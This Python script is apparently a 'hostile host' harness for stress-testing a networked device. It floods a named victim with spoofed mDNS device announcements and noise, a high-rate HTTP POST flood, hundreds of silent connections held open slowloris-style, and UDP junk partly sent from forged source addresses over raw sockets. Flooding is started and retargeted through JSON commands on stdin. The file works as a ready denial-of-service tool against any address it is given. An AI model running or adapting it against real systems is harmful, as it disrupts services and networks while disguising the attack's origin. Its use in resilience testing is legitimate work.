"""A hostile host that fills everything which is open at once, from one core: ``flooder.py CORE OWN_ADDRESSES SERVICE_TYPE VICTIM PORT``.

It multicasts mDNS packets, asks VICTIM's HTTP server at PORT, holds connections to it that say nothing, and sends datagrams to its
other UDP ports. OWN_ADDRESSES are divided by commas: HTTP comes from all of them by turns, the rest from the first. A line of stdin is a
JSON object: ``{"do": "flood", "ports": [...], "as": [[address, port], ...]}`` starts it or says anew where to (``as``: sources that a half
of the datagrams claim); ``{"do": "count"}`` prints how fast it has been since it was asked last.
"""

from __future__ import annotations

import asyncio
import itertools
import json
import os
import secrets
import socket
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from typing import Any

from datagrams import JUNK, forged
from zeroconf import DNSAddress, DNSOutgoing, DNSPointer, DNSQuestion, DNSService, DNSText, const

RATES = {"mdns": 2000, "udp": 5000, "http": 200}
"""A second, of each."""
CONNECTIONS = 300
TICK = 0.005
GROUP = ("224.0.0.251", 5353)
LABEL = "0123456789abcdef"
"""What each packet has other digits for."""

count: Counter[str] = Counter()
"""What was sent, what was answered by which status, and connections that were opened and ended."""


def packet(*records: Any, question: DNSQuestion | None = None) -> bytes:
    out = DNSOutgoing(const._FLAGS_QR_RESPONSE | const._FLAGS_AA if records else const._FLAGS_QR_QUERY)
    for record in records:
        out.add_answer_at_time(record, 0)
    if question is not None:
        out.add_question(question)
    return out.packets()[0]


def mdns_packets(service: str, own: str) -> Iterator[bytes]:
    """Fake devices, each another one; such as are named only, say goodbye or say very much; questions; noise."""
    name, host = f"{LABEL}.{service}", f"{LABEL}.local."
    unique = const._CLASS_IN | const._CLASS_UNIQUE
    pointer = DNSPointer(service, const._TYPE_PTR, const._CLASS_IN, 4500, name)
    place = DNSService(name, const._TYPE_SRV, unique, 4500, 0, 0, 8090, host)
    address = DNSAddress(host, const._TYPE_A, unique, 4500, socket.inet_aton(own))
    text, long = (DNSText(name, const._TYPE_TXT, unique, 4500, one) for one in (beacon(), b"\xff" + b"x" * 255))
    bye = DNSPointer(service, const._TYPE_PTR, const._CLASS_IN, 0, name)
    fake, bare = packet(pointer, place, text, address), packet(pointer)
    longest = packet(pointer, place, address, *(DNSText(name, const._TYPE_TXT, unique, 4500 + n, long.text) for n in range(4)))
    asked = packet(question=DNSQuestion(service, const._TYPE_PTR, const._CLASS_IN))
    named = packet(question=DNSQuestion(name, const._TYPE_ANY, const._CLASS_IN))
    kinds = [fake, fake, fake, fake, bare, packet(bye), longest, asked, named, secrets.token_bytes(200)]
    for one in itertools.cycle(kinds):
        yield one.replace(LABEL.encode(), secrets.token_hex(8).encode())


def beacon() -> bytes:
    """What looks like that of a sealed device."""
    entries = [b"v=1", b"n=" + b"A" * 11, b"b=" + b"B" * 22]
    return b"".join(bytes([len(entry)]) + entry for entry in entries)


class Flood:
    def __init__(self, addresses: list[str], service: str, victim: str, port: int) -> None:
        own = addresses[0]
        self._addresses = itertools.cycle(addresses)
        self._victim, self._port = victim, port
        self._mdns = mdns_packets(service, own)
        self._multicast = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._multicast.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        self._multicast.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
        self._multicast.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
        self._multicast.bind((own, 5353))
        self._plain = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self._udp: Iterator[Callable[[], object]] = iter(())
        self._since = time.monotonic()
        self._open = 0

    def aim(self, ports: list[int], sources: list[list[Any]]) -> None:
        """Send junk to these ports, by turns from our own address and from each of these."""

        def plain(data: bytes, port: int) -> Callable[[], object]:
            return lambda: self._plain.sendto(data, (self._victim, port))

        def claiming(data: bytes, port: int, source: tuple[str, int]) -> Callable[[], object]:
            return lambda: self._raw.sendto(forged(source, (self._victim, port), data), (self._victim, 0))

        ways = [(data, port) for data in JUNK for port in ports]
        mine = [plain(*way) for way in ways]
        theirs = [claiming(*way, (host, number)) for way in ways for host, number in sources] or mine
        self._udp = itertools.chain.from_iterable(zip(itertools.cycle(mine), itertools.cycle(theirs), strict=False))

    async def run(self) -> None:
        self._since = time.monotonic()
        count.clear()
        async with asyncio.TaskGroup() as group:
            group.create_task(self._packets("mdns", lambda: self._multicast.sendto(next(self._mdns), GROUP)))
            group.create_task(self._packets("udp", self._next_datagram))
            group.create_task(self._requests())
            for _ in range(CONNECTIONS):
                group.create_task(self._hold())

    def _next_datagram(self) -> None:
        for send in itertools.islice(self._udp, 1):
            send()

    async def _packets(self, kind: str, send: Callable[[], object]) -> None:
        begun, sent = time.monotonic(), 0
        while True:
            due = int((time.monotonic() - begun) * RATES[kind])
            for _ in range(due - sent):
                try:
                    send()
                except OSError:
                    count["failed"] += 1
            count[kind] += due - sent
            sent = due
            await asyncio.sleep(TICK)

    async def _requests(self) -> None:
        begun, sent = time.monotonic(), 0
        async with asyncio.TaskGroup() as group:
            while True:
                due = int((time.monotonic() - begun) * RATES["http"])
                for _ in range(due - sent):
                    group.create_task(self._request())
                sent = due
                await asyncio.sleep(TICK)

    async def _request(self) -> None:
        """An envelope of no member: none of the requests needs the other's connection."""
        body = b"\x01" + secrets.token_bytes(1568)
        head = (
            f"POST /offer HTTP/1.1\r\nHost: {self._victim}\r\nContent-Type: application/octet-stream\r\nContent-Length: {len(body)}\r\n\r\n"
        )
        status = "none"
        count["http"] += 1
        try:
            async with asyncio.timeout(2):
                reader, writer = await self._connected()
                try:
                    writer.write(head.encode() + body)
                    line = await reader.readline()
                    status = line.split()[1].decode() if line else "reset"
                finally:
                    writer.transport.abort()
        except (OSError, TimeoutError, IndexError):
            status = "reset"
        count[f"http {status}"] += 1

    async def _connected(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection(self._victim, self._port, local_addr=(next(self._addresses), 0))

    async def _hold(self) -> None:
        """A connection that says nothing, and another one a second after it was ended."""
        while True:
            try:
                reader, writer = await self._connected()
                count["opened"] += 1
                self._open += 1
                try:
                    await reader.read()
                finally:
                    self._open -= 1
                    writer.transport.abort()
            except OSError:
                count["failed to open"] += 1
            await asyncio.sleep(1)

    def report(self) -> None:
        seconds, self._since = time.monotonic() - self._since, time.monotonic()
        rates = {kind: round(number / seconds, 1) for kind, number in sorted(count.items())}
        count.clear()
        print(json.dumps({"event": "count", "seconds": round(seconds, 2), "per_second": rates, "open": self._open}), flush=True)


async def main(core: str, own: str, service: str, victim: str, port: str) -> None:
    os.sched_setaffinity(0, {int(core)})
    flood = Flood(own.split(","), service, victim, int(port))
    reader = asyncio.StreamReader()
    await asyncio.get_running_loop().connect_read_pipe(lambda: asyncio.StreamReaderProtocol(reader), sys.stdin)
    print(json.dumps({"event": "ready"}), flush=True)
    running: asyncio.Task[None] | None = None
    async for line in reader:
        order = json.loads(line)
        if order["do"] == "count":
            flood.report()
            continue
        flood.aim(order["ports"], order["as"])
        running = running or asyncio.create_task(flood.run())
    if running is not None:
        running.cancel()


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
